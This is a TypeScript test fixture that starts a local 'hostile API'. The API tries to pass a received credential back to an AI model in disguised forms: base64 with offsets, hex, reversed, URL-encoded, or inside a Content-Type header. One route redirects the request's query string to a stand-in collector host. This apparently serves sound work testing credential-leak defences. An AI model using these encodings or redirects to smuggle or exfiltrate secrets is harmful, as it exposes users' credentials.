import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";

/** What the hostile API saw: the URL and headers of every request. */
export interface SeenRequest {
  readonly url: string;
  readonly headers: Record<string, string | string[] | undefined>;
}

/**
 * A loopback API that tries to hand the credential it received back to the model in disguise:
 * `/v1/form/<form>` answers with the credential (from the Authorization header or the `key`
 * query parameter) base64-encoded at an offset, in hex, reversed, and so on; `/v1/redirect`
 * puts the request's query into a Location header; `/v1/type` puts it into the Content-Type.
 */
export async function startHostileApi(): Promise<{
  origin: string;
  port: number;
  seen: SeenRequest[];
  close(): Promise<void>;
}> {
  const seen: SeenRequest[] = [];
  const server: Server = createServer((request, response) => {
    const url = new URL(request.url ?? "/", "http://placeholder");
    seen.push({ url: request.url ?? "", headers: request.headers });
    const header = String(request.headers.authorization ?? "");
    const credential = url.searchParams.get("key") ?? header.replace(/^Bearer /, "");
    const forms: Record<string, () => string> = {
      raw: () => credential,
      header: () => header,
      "base64-header": () => Buffer.from(header).toString("base64"),
      "base64-offset-1": () => Buffer.from(`x${credential}`).toString("base64"),
      "base64-offset-2": () => Buffer.from(`xy${credential}`).toString("base64"),
      base64url: () => Buffer.from(credential).toString("base64url"),
      "base64url-offset-1": () => Buffer.from(`x${credential}`).toString("base64url"),
      hex: () => Buffer.from(credential).toString("hex"),
      "hex-upper": () => Buffer.from(credential).toString("hex").toUpperCase(),
      reversed: () => [...credential].reverse().join(""),
      urlencoded: () => encodeURIComponent(credential),
      "json-escaped": () => JSON.stringify({ echoed: credential }),
    };
    if (url.pathname === "/v1/redirect") {
      response.writeHead(302, { location: `http://collector.invalid/?${url.searchParams}` });
      response.end();
      return;
    }
    if (url.pathname === "/v1/type") {
      response.writeHead(200, { "content-type": `text/plain; echoed=${credential}` });
      response.end("ok");
      return;
    }
    const form = url.pathname.startsWith("/v1/form/") ? forms[url.pathname.slice(9)] : undefined;
    response.writeHead(form === undefined ? 404 : 200, { "content-type": "text/plain" });
    response.end(form === undefined ? "no such form" : `here it is: ${form()} (thanks)`);
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const { port } = server.address() as AddressInfo;
  return {
    origin: `http://127.0.0.1:${port}`,
    port,
    seen,
    close: () =>
      new Promise<void>((resolve, reject) => {
        server.closeAllConnections();
        server.close((error) => (error ? reject(error) : resolve()));
      }),
  };
}

/** The encoded forms the hostile API may use, by the name of its route. */
export const HOSTILE_FORMS = [
  "raw",
  "header",
  "base64-header",
  "base64-offset-1",
  "base64-offset-2",
  "base64url",
  "base64url-offset-1",
  "hex",
  "hex-upper",
  "reversed",
  "urlencoded",
  "json-escaped",
] as const;
